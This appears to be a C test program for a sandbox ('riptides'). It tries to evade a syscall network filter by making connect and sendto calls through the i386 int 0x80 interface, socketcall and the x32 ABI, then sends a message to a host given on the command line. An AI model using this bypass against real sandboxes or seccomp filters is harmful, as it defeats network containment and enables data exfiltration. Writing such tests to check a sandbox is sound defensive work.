/*
 * attack_int80 HOST TCPPORT UDPPORT MSG (threat model item 9)
 *
 * A 64-bit process can still enter the kernel through `int 0x80`, which
 * dispatches on the i386 system call table with AUDIT_ARCH_I386: a filter
 * written for x86-64 numbers only would not recognise socketcall (102) or
 * the direct i386 socket calls (connect = 362, sendto = 369). Arguments are
 * 32 bits wide, so the sockaddr and the socketcall argument block live in
 * memory below 4 GiB (MAP_32BIT). The sockets themselves are made with the
 * native socket() (allowed by the filter for AF_INET), so only the
 * destination-carrying call goes through the foreign ABI. Also tries the
 * x32 ABI (x86-64 numbers with bit 30 set).
 *
 * Natively every attempt connects/sends and MSG arrives; under riptides
 * each must fail (ENOSYS) and nothing may arrive.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "report.h"

#define I386_SOCKETCALL 102
#define I386_SOCKET 359
#define I386_CONNECT 362
#define I386_SENDTO 369
#define SOCKETCALL_CONNECT 3
#define SOCKETCALL_SENDTO 11
#define X32_SYSCALL_BIT 0x40000000L

/* i386 system call through int 0x80: number in eax, arguments in ebx, ecx,
   edx, esi, edi, ebp. rbp is saved around the call (below the red zone). */
static long int80(long nr, long a, long b, long c, long d, long e, long f) {
    long ret;
    register long sixth __asm__("r12") = f;
    __asm__ volatile("sub $128, %%rsp\n\t"
                     "push %%rbp\n\t"
                     "mov %%r12, %%rbp\n\t"
                     "int $0x80\n\t"
                     "pop %%rbp\n\t"
                     "add $128, %%rsp"
                     : "=a"(ret)
                     : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e), "r"(sixth)
                     : "memory", "cc", "r8", "r9", "r10", "r11");
    return ret;
}

/* A raw system call result (-errno on failure) as a report line. */
static void report_raw(const char *name, long ret) {
    if (ret < 0 && ret > -4096) printf("%s=%s\n", name, strerrorname_np((int)-ret));
    else printf("%s=ok\n", name);
    fflush(stdout);
}

int main(int argc, char **argv) {
    if (argc != 5) { fprintf(stderr, "usage: attack_int80 HOST TCPPORT UDPPORT MSG\n"); return 2; }
    const char *msg = argv[4];
    size_t msglen = strlen(msg);

    /* Everything the i386 calls point at, below 4 GiB. */
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED || (uintptr_t)low > 0xffffffffUL) { report("mmap32", -1); return 1; }
    struct sockaddr_in *tcp_to = (struct sockaddr_in *)low;
    struct sockaddr_in *udp_to = (struct sockaddr_in *)(low + 64);
    uint32_t *block = (uint32_t *)(low + 128);
    char *payload = low + 256;
    memcpy(payload, msg, msglen < 1024 ? msglen : 1024);
    tcp_to->sin_family = AF_INET;
    tcp_to->sin_port = htons((uint16_t)atoi(argv[2]));
    inet_pton(AF_INET, argv[1], &tcp_to->sin_addr);
    *udp_to = *tcp_to;
    udp_to->sin_port = htons((uint16_t)atoi(argv[3]));

    /* i386 socket(): a kernel that runs it answers a descriptor. */
    long s = int80(I386_SOCKET, AF_INET, SOCK_STREAM, 0, 0, 0, 0);
    report_raw("i386_socket", s);
    if (s >= 0) close((int)s);

    /* socketcall(SYS_CONNECT, {fd, addr, len}). */
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    block[0] = (uint32_t)fd;
    block[1] = (uint32_t)(uintptr_t)tcp_to;
    block[2] = sizeof *tcp_to;
    long ret = int80(I386_SOCKETCALL, SOCKETCALL_CONNECT, (long)(uintptr_t)block, 0, 0, 0, 0);
    report_raw("socketcall_connect", ret);
    if (ret == 0) report("socketcall_write", write(fd, msg, msglen));
    close(fd);

    /* i386 connect(fd, addr, len). */
    fd = socket(AF_INET, SOCK_STREAM, 0);
    ret = int80(I386_CONNECT, fd, (long)(uintptr_t)tcp_to, sizeof *tcp_to, 0, 0, 0);
    report_raw("i386_connect", ret);
    if (ret == 0) report("i386_write", write(fd, msg, msglen));
    close(fd);

    /* socketcall(SYS_SENDTO, {fd, buf, len, flags, addr, addrlen}) on UDP. */
    fd = socket(AF_INET, SOCK_DGRAM, 0);
    block[0] = (uint32_t)fd;
    block[1] = (uint32_t)(uintptr_t)payload;
    block[2] = (uint32_t)msglen;
    block[3] = 0;
    block[4] = (uint32_t)(uintptr_t)udp_to;
    block[5] = sizeof *udp_to;
    report_raw("socketcall_sendto", int80(I386_SOCKETCALL, SOCKETCALL_SENDTO, (long)(uintptr_t)block, 0, 0, 0, 0));

    /* i386 sendto(fd, buf, len, flags, addr, addrlen). */
    report_raw("i386_sendto", int80(I386_SENDTO, fd, (long)(uintptr_t)payload, (long)msglen, 0,
                                    (long)(uintptr_t)udp_to, sizeof *udp_to));
    close(fd);

    /* x32: the x86-64 entry with bit 30 set (kernels without
       CONFIG_X86_X32_ABI answer ENOSYS natively too). */
    fd = socket(AF_INET, SOCK_STREAM, 0);
    errno = 0;
    ret = syscall(X32_SYSCALL_BIT | SYS_connect, fd, tcp_to, sizeof *tcp_to);
    report("x32_connect", ret);
    if (ret == 0) report("x32_write", write(fd, msg, msglen));
    close(fd);
    return 0;
}
